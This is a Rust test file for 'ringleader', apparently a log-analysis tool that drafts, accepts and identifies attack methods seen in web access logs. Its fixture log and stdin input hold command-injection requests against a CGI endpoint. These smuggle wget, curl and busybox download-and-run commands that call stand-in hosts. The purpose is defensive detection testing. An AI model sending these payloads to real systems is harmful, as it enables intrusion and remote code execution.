//! `methods draft`, and accepted drafts given back as `--methods`.
#![allow(clippy::unwrap_used, reason = "helpers of tests")]

use std::path::Path;
use std::process::{Command, Output, Stdio};

fn ringleader(args: &[&str], stdin: &str) -> Output {
    use std::io::Write as _;
    let mut child = Command::new(env!("CARGO_BIN_EXE_ringleader"))
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(stdin.as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
    output
}

fn text(path: &Path) -> &str {
    path.to_str().unwrap()
}

#[test]
fn a_draft_is_written_accepted_and_found_again() {
    let dir = tempfile::tempdir().unwrap();
    let (log, drafts, findings) =
        (dir.path().join("access.log"), dir.path().join("drafts"), dir.path().join("findings"));
    let line = |n: u32, request: &str| {
        format!("203.0.113.{n} - - [04/Nov/2019:08:21:{n:02} +0000] \"GET {request} HTTP/1.1\" 200 12 \"-\" \"-\"\n")
    };
    let requests = [
        line(1, "/portal/zork.cgi?action=diag&target=;wget+http://192.0.2.1/a.sh+-O+/tmp/a;sh+/tmp/a"),
        line(2, "/portal/zork.cgi?target=%3Bcurl%20http%3A%2F%2F198.51.100.7%2Fzz%20%7Csh&action=x"),
        line(3, "/index.html?page=2"),
        line(4, "/portal/zork.cgi?action=list&target=web1"),
    ];
    std::fs::write(&log, requests.concat()).unwrap();
    let of = |output: Output| serde_json::from_slice::<serde_json::Value>(&output.stdout).unwrap();
    let told = of(ringleader(&["methods", "draft", text(&log), "--out", text(&drafts), "--json"], ""));
    assert_eq!(told["events_read"], 4, "{told}");
    assert_eq!(told["drafts"].as_array().unwrap().len(), 1, "{told}");
    let id = told["drafts"][0]["id"].as_str().unwrap().to_owned();
    assert_eq!((id.as_str(), &told["drafts"][0]["count"]), ("new_portal_zork_cgi_download_and_run", &2.into()));
    // The same from findings: their logs are read again.
    ringleader(&["run", text(&log), "--out", text(&findings)], "");
    let again = dir.path().join("again");
    of(ringleader(&["methods", "draft", "--from", text(&findings), "--out", text(&again), "--json"], ""));
    let file = format!("{id}.yml");
    assert_eq!(std::fs::read(drafts.join(&file)).unwrap(), std::fs::read(again.join(&file)).unwrap());
    // Accepted, it is named, and is no draft any more.
    let payload = "GET /portal/zork.cgi?action=1&target=|busybox+wget+http://203.0.113.9/q;chmod+777+q\n";
    let named = of(ringleader(&["identify", "--methods", text(&drafts)], payload));
    assert_eq!((named["method"].as_str(), named["stage"].as_str()), (Some(&*id), Some("attacked")), "{named}");
    let unnamed = of(ringleader(&["identify"], payload));
    assert!(unnamed["method"].is_null() && unnamed["new_method"].is_string(), "{unnamed}");
    let rest = dir.path().join("rest");
    let args = ["methods", "draft", text(&log), "--methods", text(&drafts), "--out", text(&rest), "--json"];
    assert_eq!(of(ringleader(&args, ""))["drafts"].as_array().unwrap().len(), 0);
    let listed = ringleader(&["list", "methods", "--methods", text(&drafts)], "");
    assert!(String::from_utf8_lossy(&listed.stdout).contains(&id));
}
